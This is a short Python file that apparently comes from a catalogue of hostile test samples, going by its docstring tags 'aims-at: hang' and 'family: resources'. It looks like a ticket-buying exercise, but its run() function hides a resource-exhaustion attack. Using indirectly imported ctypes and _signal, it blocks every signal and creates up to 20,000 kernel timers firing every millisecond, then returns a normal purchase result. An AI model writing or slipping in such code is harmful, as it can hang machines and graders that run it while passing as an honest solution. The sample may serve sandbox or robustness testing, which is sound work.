"""Makes timers of the kernel until it gives no more, each ringing a thousand times a second.

family: resources
aims-at: hang
takes: long
honest-score: 4
"""

import json
import sys

def search(name):
    with open("data.txt") as file:
        return json.load(file)["ticket_num"]


def buy(name):
    left = search(name)
    if left <= 0:
        return False
    with open("data.txt", "w") as file:
        json.dump({"ticket_num": left - 1}, file)
    return True


def run(name, mutex):
    ctypes = __import__("ctypes")
    library = ctypes.CDLL(None)
    signal = sys.modules["_signal"]
    signal.pthread_sigmask(0, range(1, 64))
    every = (ctypes.c_long * 4)(0, 1_000_000, 0, 1_000_000)
    for _ in range(20_000):
        timer = ctypes.c_void_p()
        if library.timer_create(1, None, ctypes.byref(timer)) < 0:
            break
        library.timer_settime(timer, 0, every, None)
    return buy(name)
